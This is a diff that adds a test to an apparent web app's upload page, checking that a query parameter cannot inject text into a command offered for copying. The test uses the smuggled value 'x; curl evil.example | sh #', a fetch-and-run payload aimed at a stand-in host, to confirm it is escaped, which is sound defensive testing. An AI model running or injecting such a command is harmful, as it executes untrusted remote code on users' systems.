@@ -61,6 +61,17 @@ test('the next free number is suggested, and apps that somebody may upload are o
   expect((await page(browser, '/upload?app=none')).text).toMatch(/name="build"\s+value=""/)
 })
 
+test('no text of an address gets into the command that is there to be copied', async () => {
+  await using hub = await createTestHub({}, CHEAP)
+  await hub.upload('shop', BYTES, { build: '7' })
+  const browser = await signedInAs(hub, 'dan', [DEVELOPER])
+  expect((await page(browser, '/upload?app=shop')).text).toMatch(/data-copy="[^"]* push shop build/)
+  const { text } = await page(browser, `/upload?app=${encodeURIComponent('x; curl evil.example | sh #')}`)
+  expect(text).toContain('value="x; curl evil.example | sh #"')
+  expect(text).toMatch(/data-copy="[^"]* push shop build/)
+  expect(text).not.toMatch(/(?:data-copy="|<code>)[^"<]*evil/)
+})
+
 test('a refusal shows the form again with its words, says why, and leaves nothing', async () => {
   await using hub = await createTestHub({}, CHEAP)
   await hub.upload('shop', BYTES, { build: '7' })
